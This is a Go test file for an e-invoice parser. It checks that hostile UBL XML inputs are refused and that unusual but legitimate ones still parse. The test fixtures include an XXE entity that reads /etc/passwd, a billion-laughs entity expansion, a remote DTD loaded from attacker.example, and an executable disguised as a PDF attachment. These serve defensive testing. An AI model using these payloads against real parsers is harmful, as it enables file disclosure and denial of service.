package einvoice

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"
)

// hostileUBL is a small UBL invoice; NOTE and ATTACHMENT are replaced by
// the hostile parts.
const hostileUBL = `<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
 <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>
 <cbc:ID>R-1</cbc:ID>
 <cbc:IssueDate>2024-05-02</cbc:IssueDate>
 <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
 <cbc:Note>NOTE</cbc:Note>
 <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
 <cbc:BuyerReference>04011000-12345-03</cbc:BuyerReference>
 <cac:AdditionalDocumentReference><cbc:ID>A1</cbc:ID>
  <cac:Attachment>ATTACHMENT</cac:Attachment></cac:AdditionalDocumentReference>
 <cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>Lieferant GmbH</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>
 <cac:AccountingCustomerParty><cac:Party><cac:PartyName><cbc:Name>Stadt</cbc:Name></cac:PartyName></cac:Party></cac:AccountingCustomerParty>
 <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">1.9</cbc:TaxAmount></cac:TaxTotal>
 <cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="EUR">10</cbc:LineExtensionAmount>
  <cbc:TaxExclusiveAmount currencyID="EUR">10</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount currencyID="EUR">11.9</cbc:TaxInclusiveAmount>
  <cbc:PayableAmount currencyID="EUR">PAYABLE</cbc:PayableAmount></cac:LegalMonetaryTotal>
 <cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity unitCode="H87">2</cbc:InvoicedQuantity>
  <cbc:LineExtensionAmount currencyID="EUR">10</cbc:LineExtensionAmount>
  <cac:Item><cbc:Name>Toner</cbc:Name></cac:Item><cac:Price><cbc:PriceAmount currencyID="EUR">5</cbc:PriceAmount></cac:Price></cac:InvoiceLine>
</Invoice>`

// ublWith returns hostileUBL with the note text, the attachment element
// content and the payable amount replaced; "" keeps a harmless default.
func ublWith(note, attachment, payable string) string {
	if note == "" {
		note = "Hinweis"
	}
	if attachment == "" {
		attachment = `<cbc:EmbeddedDocumentBinaryObject mimeCode="text/csv" filename="a.csv">aGVsbG8=</cbc:EmbeddedDocumentBinaryObject>`
	}
	if payable == "" {
		payable = "11.90"
	}
	r := strings.NewReplacer("NOTE", note, "ATTACHMENT", attachment, "PAYABLE", payable)
	return r.Replace(hostileUBL)
}

// binaryObject is a UBL embedded document with the given attributes and
// base64 text.
func binaryObject(mime, filename, b64 string) string {
	return `<cbc:EmbeddedDocumentBinaryObject mimeCode="` + mime + `" filename="` + filename + `">` +
		b64 + `</cbc:EmbeddedDocumentBinaryObject>`
}

const (
	nsDecl     = `xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"`
	billion    = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>`
	xxeDoctype = `<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`
	paramEnt   = `<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; %payload;]>`
)

// hostileCases are the inputs that must be refused, each with its
// sentinel. They also seed FuzzParse.
var hostileCases = []struct {
	name string
	doc  string
	want error
}{
	{"xxe external entity", `<?xml version="1.0"?>` + xxeDoctype + ublWith("&xxe;", "", ""), ErrUnsafeXML},
	{"billion laughs", `<?xml version="1.0"?>` + billion + ublWith("&lol9;", "", ""), ErrUnsafeXML},
	{"parameter entities", `<?xml version="1.0"?>` + paramEnt + ublWith("", "", ""), ErrUnsafeXML},
	{"doctype after a comment", `<?xml version="1.0"?><!-- harmless -->` + xxeDoctype + ublWith("&xxe;", "", ""), ErrUnsafeXML},
	{"doctype lower case", `<!doctype Invoice [<!entity xxe SYSTEM "file:///etc/passwd">]>` + ublWith("", "", ""), ErrUnsafeXML},
	{"doctype odd case and whitespace", "<!DocType\n\tInvoice\r\n SYSTEM \"file:///etc/passwd\"  >" + ublWith("", "", ""), ErrUnsafeXML},
	{"doctype after the root", ublWith("", "", "") + xxeDoctype, ErrUnsafeXML},
	{"entity declaration inside the root", `<Invoice ` + nsDecl + `><!ENTITY x "y"></Invoice>`, ErrUnsafeXML},
	{"unterminated doctype", `<!DOCTYPE Invoice [<!ENTITY x "` + ublWith("", "", ""), ErrUnsafeXML},
	{"entity reference without a dtd", ublWith("&xxe;", "", ""), ErrMalformedXML},
	{"invalid utf-8 in text", ublWith("Stra\xdfe", "", ""), ErrMalformedXML},
	{"invalid utf-8 in an attribute", strings.Replace(ublWith("", "", ""), `unitCode="H87"`, "unitCode=\"\xff\xfe\"", 1), ErrMalformedXML},
	{"utf-16 declared, utf-8 bytes", strings.Replace(ublWith("", "", ""), `encoding="UTF-8"`, `encoding="UTF-16"`, 1), ErrUnsupportedEncoding},
	{"utf-16le with byte order mark", utf16LE(strings.Replace(ublWith("", "", ""), `encoding="UTF-8"`, `encoding="UTF-16"`, 1), true), ErrUnsupportedEncoding},
	{"utf-16be without byte order mark", utf16BE(ublWith("", "", "")), ErrUnsupportedEncoding},
	{"unknown charset", strings.Replace(ublWith("", "", ""), `encoding="UTF-8"`, `encoding="x-hostile-7"`, 1), ErrUnsupportedEncoding},
	{"truncated document", ublWith("", "", "")[:len(hostileUBL)/2], ErrMalformedXML},
	{"empty document", "", ErrMalformedXML},
	{"two root elements", ublWith("", "", "") + `<Invoice ` + nsDecl + `/>`, ErrMalformedXML},
	{"text after the root", ublWith("", "", "") + "trailing garbage", ErrMalformedXML},
	{"unclosed element", `<Invoice ` + nsDecl + `><cbc:ID>1</Invoice>`, ErrMalformedXML},
	{"element name over the limit", `<Invoice ` + nsDecl + `><` + strings.Repeat("n", 2000) + `/></Invoice>`, ErrTooLarge},
	{"100,000 levels of nesting", strings.Repeat("<a>", 100_000) + strings.Repeat("</a>", 100_000), ErrTooDeep},
	{"a million sibling elements", `<Invoice ` + nsDecl + `>` + strings.Repeat("<a/>", 1_000_000) + `</Invoice>`, ErrTooManyElements},
	{"bad amount quoting 40 MiB", ublWith("", "", strings.Repeat("9x", 20<<20)), ErrBadDecimal},
	{"legacy zugferd 1.0", `<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>`, ErrLegacyZUGFeRD},
	{"no invoice", `<html><body/></html>`, ErrUnknownSyntax},
}

func TestParseRefusesHostileXML(t *testing.T) {
	for _, c := range hostileCases {
		t.Run(c.name, func(t *testing.T) {
			inv, err := Parse(strings.NewReader(c.doc))
			if !errors.Is(err, c.want) {
				t.Fatalf("err = %v, want %v", err, c.want)
			}
			if inv != nil {
				t.Error("a refused document still returned a model")
			}
			// Messages go to logs and audit trails: they must not quote
			// megabytes of input.
			if len(err.Error()) > 1000 {
				t.Errorf("error message of %d bytes: %.200s…", len(err.Error()), err)
			}
		})
	}
}

func utf16LE(s string, bom bool) string {
	var b []byte
	if bom {
		b = append(b, 0xFF, 0xFE)
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func utf16BE(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.BigEndian.AppendUint16(b, u)
	}
	return string(b)
}

// TestParseAcceptsOddButHarmlessXML covers inputs near the hostile ones
// that are legitimate and must parse.
func TestParseAcceptsOddButHarmlessXML(t *testing.T) {
	cases := []struct {
		name, doc, note string
	}{
		{"doctype text inside cdata", ublWith("<![CDATA[<!DOCTYPE html><!ENTITY x>]]>", "", ""), "<!DOCTYPE html><!ENTITY x>"},
		{"doctype text inside a comment", ublWith("a<!-- <!DOCTYPE x> -->b", "", ""), "ab"},
		{"utf-8 byte order mark", "\xEF\xBB\xBF" + ublWith("Straße", "", ""), "Straße"},
		{"windows-1252", strings.Replace(ublWith("\x80 5", "", ""), `encoding="UTF-8"`, `encoding="windows-1252"`, 1), "€ 5"},
		{"iso-8859-15", strings.Replace(ublWith("Stra\xdfe \xa4", "", ""), `encoding="UTF-8"`, `encoding="ISO-8859-15"`, 1), "Straße €"},
		{"iso-8859-1", strings.Replace(ublWith("Stra\xdfe", "", ""), `encoding="UTF-8"`, `encoding="iso-8859-1"`, 1), "Straße"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			inv, err := Parse(strings.NewReader(c.doc))
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			if len(inv.Notes) != 1 || inv.Notes[0].Text != c.note {
				t.Errorf("notes = %+v, want %q", inv.Notes, c.note)
			}
		})
	}
}

// TestParseLargeButWithinLimits: big strings within MaxSize are read in
// linear time and with memory a small multiple of the input.
func TestParseLargeButWithinLimits(t *testing.T) {
	t.Run("attribute of 10 MiB", func(t *testing.T) {
		name := strings.Repeat("x", 10<<20) + ".csv"
		inv, err := Parse(strings.NewReader(ublWith("", binaryObject("text/csv", name, "aGVsbG8="), "")))
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		if got := inv.Attachments[0].Filename; got != name {
			t.Errorf("filename of %d bytes, want %d", len(got), len(name))
		}
		_ = Validate(inv)
		_ = Inspect(inv)
	})
	t.Run("text node of 40 MiB", func(t *testing.T) {
		note := strings.Repeat("Müll &amp; <![CDATA[<&>]]> ", 40<<20/28)
		doc := ublWith(note, "", "")
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		inv, err := Parse(strings.NewReader(doc))
		runtime.ReadMemStats(&after)
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		want := strings.NewReplacer("&amp;", "&", "<![CDATA[", "", "]]>", "").Replace(note)
		if got, want := len(inv.Notes[0].Text), len(strings.TrimSpace(want)); got != want {
			t.Errorf("note of %d bytes, want %d", got, want)
		}
		// Input, the decoder's buffer, the text and the tree: a few
		// copies, never a blow-up. TotalAlloc counts every allocation.
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8*uint64(len(doc)) {
			t.Errorf("parsing %d MiB allocated %d MiB", len(doc)>>20, alloc>>20)
		}
		_ = Validate(inv)
		_ = Inspect(inv)
	})
	t.Run("elements at the limit", func(t *testing.T) {
		doc := `<Invoice ` + nsDecl + `>` + strings.Repeat("<a/>", MaxElements-1) + `</Invoice>`
		if _, err := readTree(strings.NewReader(doc)); err != nil {
			t.Fatalf("%d elements: %v", MaxElements, err)
		}
	})
	t.Run("nesting at the limit", func(t *testing.T) {
		doc := strings.Repeat("<a>", MaxDepth) + strings.Repeat("</a>", MaxDepth)
		if _, err := readTree(strings.NewReader(doc)); err != nil {
			t.Fatalf("depth %d: %v", MaxDepth, err)
		}
	})
	t.Run("more than MaxSize", func(t *testing.T) {
		_, err := Parse(io.LimitReader(zeros{}, MaxSize+1))
		if !errors.Is(err, ErrTooLarge) {
			t.Fatalf("err = %v, want ErrTooLarge", err)
		}
	})
}

// zeros is an endless reader of '0'.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = '0'
	}
	return len(p), nil
}

// TestParseHostileAttachments: attachments are recorded, never trusted and
// never a reason to fail the invoice.
func TestParseHostileAttachments(t *testing.T) {
	t.Run("over MaxAttachmentBytes", func(t *testing.T) {
		size := MaxAttachmentBytes + 3
		b64 := base64.StdEncoding.EncodeToString(make([]byte, size))
		// Line breaks as real encoders write them must not count.
		b64 = wrapLines(b64, 76)
		inv, err := Parse(strings.NewReader(ublWith("", binaryObject("application/pdf", "big.pdf", b64), "")))
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		a := inv.Attachments[0]
		// HasContent stays true: callers that skip content-less
		// attachments (external references) must still see this one.
		if !a.TooLarge || !a.HasContent() || a.Size != int64(size) {
			t.Errorf("too large %v, has content %v, size %d; want true, true, %d", a.TooLarge, a.HasContent(), a.Size, size)
		}
		if a.content != "" {
			t.Error("the oversized content is still held by the model")
		}
		if _, err := a.Content(); !errors.Is(err, ErrAttachmentTooLarge) {
			t.Errorf("content err = %v, want ErrAttachmentTooLarge", err)
		}
		raw, err := json.Marshal(inv)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(raw, []byte(`"too_large":true`)) {
			t.Error("json does not report the oversized attachment")
		}
	})
	t.Run("exactly MaxAttachmentBytes", func(t *testing.T) {
		var a Attachment
		a.setContent(base64.StdEncoding.EncodeToString(make([]byte, MaxAttachmentBytes)))
		if a.TooLarge || !a.HasContent() || a.Size != MaxAttachmentBytes {
			t.Errorf("too large %v, has content %v, size %d", a.TooLarge, a.HasContent(), a.Size)
		}
	})
	t.Run("invalid base64", func(t *testing.T) {
		for _, b64 := range []string{"!!!!not base64!!!!", "aGVsbG8", "=", "==", "a===", "\n \t"} {
			inv, err := Parse(strings.NewReader(ublWith("", binaryObject("text/plain", "x.txt", b64), "")))
			if err != nil {
				t.Fatalf("%q: parse: %v", b64, err)
			}
			a := inv.Attachments[0]
			if a.Size < 0 {
				t.Errorf("%q: negative size %d", b64, a.Size)
			}
			if _, err := a.Content(); err == nil {
				t.Errorf("%q: content decoded without error", b64)
			}
		}
	})
	t.Run("mime code pdf, bytes not a pdf", func(t *testing.T) {
		payload := []byte("MZ\x90\x00 this is an executable, not a PDF")
		inv, err := Parse(strings.NewReader(ublWith("", binaryObject("application/pdf", "rechnung.pdf",
			base64.StdEncoding.EncodeToString(payload)), "")))
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		a := inv.Attachments[0]
		if a.MimeCode != "application/pdf" || a.Filename != "rechnung.pdf" {
			t.Errorf("recorded %q %q", a.MimeCode, a.Filename)
		}
		// The model records what the sender claims; the caller checks
		// the bytes when it stores them (package sniff).
		b, err := a.Content()
		if err != nil || !bytes.Equal(b, payload) {
			t.Errorf("content %q, err %v", b, err)
		}
	})
}

func wrapLines(s string, n int) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n])
		b.WriteString("\r\n")
		s = s[n:]
	}
	b.WriteString(s)
	return b.String()
}
